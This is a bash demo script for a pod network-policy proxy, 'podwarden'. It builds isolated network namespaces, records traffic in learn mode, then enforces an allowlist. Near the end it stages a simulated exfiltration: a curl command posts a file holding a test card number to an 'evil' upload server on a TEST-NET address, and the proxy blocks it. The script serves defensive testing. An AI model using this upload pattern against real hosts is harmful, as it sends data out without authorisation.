#!/usr/bin/env bash
# podwarden demo: a pod in network namespaces, the proxy in front of a real app
# and real servers, traffic from real clients, the flows it recorded in learn
# mode, then the same pod switched to protect by rewriting its policy file: an
# allowed call still works, an exfiltration attempt is refused before it leaves.
#
#   client ─┐            ┌─ server  198.51.100.10 (HTTP :8000, HTTPS :8443, redis :6379)
#           ├─ router ───┤
#   pod   ──┘            └─ unknown 203.0.113.10  (the exfiltration target: HTTP :8000)
#   192.0.2.10: app (HTTP :8080, UID 1000) + podwarden-proxy (UID 1337) + init rules
#
# Only TEST-NET addresses; the router has no route out. Everything is removed at exit.
# Needs root. Usage: bash scripts/demo.sh   (KEEP=1 keeps the namespaces until Enter)
set -euo pipefail
cd "$(dirname "$0")/.."
root=$PWD

if [ "$(id -u)" != 0 ]; then
  echo "demo.sh needs root (it creates network namespaces)" >&2
  exit 1
fi
bash scripts/setup.sh

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-$root/target}"
say "building podwarden-proxy"
cargo build -q -p podwarden-proxy --bins
BIN="$CARGO_TARGET_DIR/debug/podwarden-proxy"
PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3

S="pw-demo-$$"
NSS=(router pod server unknown client)
work=$(mktemp -d /tmp/pw-demo.XXXXXX)
chmod 755 "$work"
pids=()

cleanup() {
  set +e
  for p in "${pids[@]}"; do kill -- "-$p" 2>/dev/null; done
  wait 2>/dev/null
  for n in "${NSS[@]}"; do
    for p in $(ip netns pids "$S-$n" 2>/dev/null); do kill -9 "$p" 2>/dev/null; done
    ip netns del "$S-$n" 2>/dev/null
  done
  rm -rf "$work"
}
trap cleanup EXIT INT TERM

ns() { local n=$1; shift; ip netns exec "$S-$n" "$@"; }
# bg LOG NS UID CMD...: a background process in namespace NS as UID (- for root),
# in its own process group so cleanup kills all of it.
bg() {
  local log=$1 n=$2 uid=$3; shift 3
  local priv=()
  [ "$uid" = - ] || priv=(setpriv --reuid "$uid" --regid "$uid" --clear-groups --)
  setsid ip netns exec "$S-$n" "${priv[@]}" "$@" >"$work/$log.log" 2>&1 &
  pids+=($!)
}
wait_port() { # ns port
  for _ in $(seq 100); do
    ns "$1" ss -ltnH | awk '{print $4}' | grep -q ":$2\$" && return 0
    sleep 0.1
  done
  echo "nothing listening on $2 in $1" >&2; cat "$work"/*.log >&2; exit 1
}

say "creating namespaces $S-{${NSS[*]}}"
for n in "${NSS[@]}"; do ip netns add "$S-$n"; ns "$n" ip link set lo up; done
ns router sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
link() { # leaf v4 router-v4 prefix v6-subnet
  local leaf=$1 v4=$2 r4=$3 len=$4 six=$5
  ip -n "$S-router" link add "r-$leaf" type veth peer name eth0 netns "$S-$leaf"
  ip -n "$S-router" addr add "$r4/$len" dev "r-$leaf"
  ip -n "$S-router" -6 addr add "2001:db8:$six::1/64" dev "r-$leaf" nodad
  ip -n "$S-router" link set "r-$leaf" up
  ip -n "$S-$leaf" addr add "$v4/$len" dev eth0
  ip -n "$S-$leaf" -6 addr add "2001:db8:$six::10/64" dev eth0 nodad
  ip -n "$S-$leaf" link set eth0 up
  ip -n "$S-$leaf" route add default via "$r4"
  ip -n "$S-$leaf" -6 route add default via "2001:db8:$six::1"
}
POD=192.0.2.10 SERVER=198.51.100.10 UNKNOWN=203.0.113.10 CLIENT=192.0.2.74
link pod "$POD" 192.0.2.1 26 1
link server "$SERVER" 198.51.100.1 24 2
link unknown "$UNKNOWN" 203.0.113.1 24 3
link client "$CLIENT" 192.0.2.65 26 4
ns pod sysctl -qw net.ipv4.ping_group_range="0 2147483647"

say "starting real servers in the server namespace, and the app in the pod"
mkdir -p "$work/www" "$work/app"
echo "hello from the server" >"$work/www/hello.txt"
echo '{"orders": 3}' >"$work/www/orders.json"
echo "hello from the app" >"$work/app/index.txt"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1 \
  -subj /CN=api.example.test -addext subjectAltName=DNS:api.example.test \
  -keyout "$work/tls.key" -out "$work/tls.crt" 2>/dev/null
chmod 644 "$work/tls.key"
bg web server - "$PY" -m http.server 8000 --bind :: --directory "$work/www"
bg tls server - "$PY" tests/fixtures/tls_server.py "$work/tls.crt" "$work/tls.key" 8443
bg redis server - redis-server --port 6379 --bind 0.0.0.0 :: --protected-mode no --save "" --appendonly no --dir "$work"
bg app pod 1000 "$PY" -m http.server 8080 --bind :: --directory "$work/app"
for p in 8000 8443 6379; do wait_port server $p; done
wait_port pod 8080

say "starting podwarden-proxy in the pod as UID 1337 (policy file in learn mode), then applying init"
policy() { # MODE VERSION, rules (YAML list items) on stdin
  { printf 'apiVersion: podwarden.io/v1alpha1\nkind: WorkloadPolicy\n'
    printf 'metadata: { workload: demo/app, version: %s }\n' "$2"
    printf 'spec:\n  mode: %s\n  rules:\n' "$1"
    cat; } >"$work/policy.tmp"
  chmod 644 "$work/policy.tmp"
  mv "$work/policy.tmp" "$work/policy.yaml" # atomic, as a ConfigMap update is
}
echo "    []" | policy learn 1
sed 's/^/  /' "$work/policy.yaml"
bg proxy pod 1337 "$BIN" run --admin-addr 127.0.0.1:15000 --workload demo/app --pod demo-pod \
  --policy-file "$work/policy.yaml"
for p in 15001 15006 15000; do wait_port pod $p; done
ns pod "$BIN" init --dns-resolver "$SERVER"
echo "rules in the pod (nat and filter, ours only):"
ns pod iptables-save | grep -E '^(\*|-A (PREROUTING|OUTPUT|INPUT) .*PODWARDEN|-A PODWARDEN)' | sed 's/^/  /'

run() { printf '\n$ %s\n' "$*"; "$@" || echo "  (exit $?)"; }
app() { ns pod setpriv --reuid 1000 --regid 1000 --clear-groups -- "$@"; }

say "traffic from the app (UID 1000)"
run app curl -sS --max-time 5 "http://$SERVER:8000/hello.txt"
run app curl -sS --max-time 5 "http://$SERVER:8000/orders.json?user=42"
run app curl -sS --max-time 5 -g "http://[2001:db8:2::10]:8000/hello.txt"
run app curl -sS --max-time 5 --cacert "$work/tls.crt" --resolve "api.example.test:8443:$SERVER" https://api.example.test:8443/
run app redis-cli -h "$SERVER" SET podwarden demo
run app redis-cli -h "$SERVER" GET podwarden

say "an inbound call from the client namespace to the app"
run ns client curl -sS --max-time 5 "http://$POD:8080/index.txt"

say "non-TCP from the pod is dropped (checked on the unknown host's counters)"
ns unknown iptables -A INPUT -p udp --dport 9999 -m comment --comment demo-udp
ns unknown iptables -A INPUT -p icmp --icmp-type echo-request -m comment --comment demo-icmp
run app "$PY" tests/fixtures/udp_send.py "$UNKNOWN" 9999
run app ping -c 1 -W 1 "$UNKNOWN"
run ns pod ping -c 1 -W 1 "$UNKNOWN"
echo
ns unknown iptables -nvxL INPUT | awk '/demo-/ {printf "  unknown host received %s packet(s) matching %s\n", $1, $(NF-1)}'

say "flows recorded by the proxy (GET /flows on the admin port, inside the pod)"
sleep 0.5
ns pod curl -sS --max-time 5 http://127.0.0.1:15000/flows >"$work/flows.json"
"$PY" - "$work/flows.json" <<'PYEOF'
import json, sys
rows = json.load(open(sys.argv[1]))
fmt = "{:<8} {:<10} {:<7} {:<28} {:<34} {:>6} {:>7} {:>7}  {}"
print(fmt.format("dir", "kind", "proto", "peer", "what", "status", "sent", "recv", "decision"))
for r in rows:
    http = r.get("http") or {}
    what = r.get("sni") and f"sni={r['sni']}" or ""
    if http:
        what = f"{http.get('method')} {http.get('host') or ''}{http.get('path')}"
    d = r["decision"]
    verdict = d["action"] + (" (would deny)" if d.get("would_deny") else "") + f" [{d['mode']}]"
    proc = r.get("process")
    if proc:
        verdict += f"  {proc['exe'].rsplit('/', 1)[-1]}(uid {proc['uid']})"
    print(fmt.format(r["direction"], r["kind"], r["protocol"], r["peer"], what[:34],
                     str(r.get("status") or ""), r["bytes_sent"], r["bytes_received"], verdict))
print(f"\n{len(rows)} records")
PYEOF

say "metrics (excerpt of /metrics)"
ns pod curl -sS --max-time 5 http://127.0.0.1:15000/metrics | grep -E '^podwarden_' | grep -v ' 0$' | head -20 | sed 's/^/  /'

say "switching the pod to protect: the reviewed allowlist, written over the policy file"
policy protect 2 <<RULES
    - { id: web, note: the API, direction: outbound, peer: { cidr: $SERVER/32 }, ports: ["8000", "8443"] }
    - { id: web-v6, note: the API over IPv6, direction: outbound, peer: { cidr: "2001:db8:2::10/128" }, ports: ["8000"] }
    - { id: cache, note: redis, direction: outbound, peer: { cidr: $SERVER/32 }, ports: ["6379"] }
    - { id: ingress, note: clients of the app, direction: inbound, peer: { cidr: 192.0.2.64/26 }, ports: ["8080"] }
RULES
sed 's/^/  /' "$work/policy.yaml"
echo "  (no restart: the proxy polls the file every 2 s; SIGHUP works too)"
for _ in $(seq 100); do
  grep -q '"kind":"policy_reload","result":"ok","version":2' "$work/proxy.log" && break
  sleep 0.1
done
grep -E '"kind":"(policy_reload|mode_change)"' "$work/proxy.log" | grep -v '"version":1' | grep -E 'policy_reload|"feature":"network"' | sed 's/^/  event: /'

say "protect: the allowed calls still work"
run app curl -sS --max-time 5 "http://$SERVER:8000/hello.txt"
run app redis-cli -h "$SERVER" GET podwarden

say "protect: an exfiltration attempt to an unknown IP is refused"
echo "card=4111111111111111" >"$work/loot.txt"
chmod 644 "$work/loot.txt"
mkdir -p "$work/evil"
bg evil unknown - "$PY" -m http.server 8000 --bind :: --directory "$work/evil"
wait_port unknown 8000
ns unknown iptables -A INPUT -p tcp --dport 8000 -m comment --comment demo-exfil
run app curl -sS --max-time 5 --data-binary @"$work/loot.txt" "http://$UNKNOWN:8000/upload"
echo
ns unknown iptables -nvxL INPUT | awk '/demo-exfil/ {printf "  unknown host received %s TCP packet(s) on :8000\n", $1}'
echo "  unknown host's web server logged $(grep -c upload "$work/evil.log" || true) request(s) for /upload"
echo "  the violation event (the proxy prints one JSON line per event on stdout):"
for _ in $(seq 20); do grep -q "\"kind\":\"violation\".*$UNKNOWN:8000" "$work/proxy.log" && break; sleep 0.1; done
grep '"kind":"violation"' "$work/proxy.log" | grep "$UNKNOWN:8000" | head -1 | "$PY" -m json.tool | sed 's/^/    /'

if [ "${KEEP:-0}" = 1 ]; then
  read -r -p "namespaces $S-* are up; press Enter to clean up " _ || true
fi
say "cleaning up"
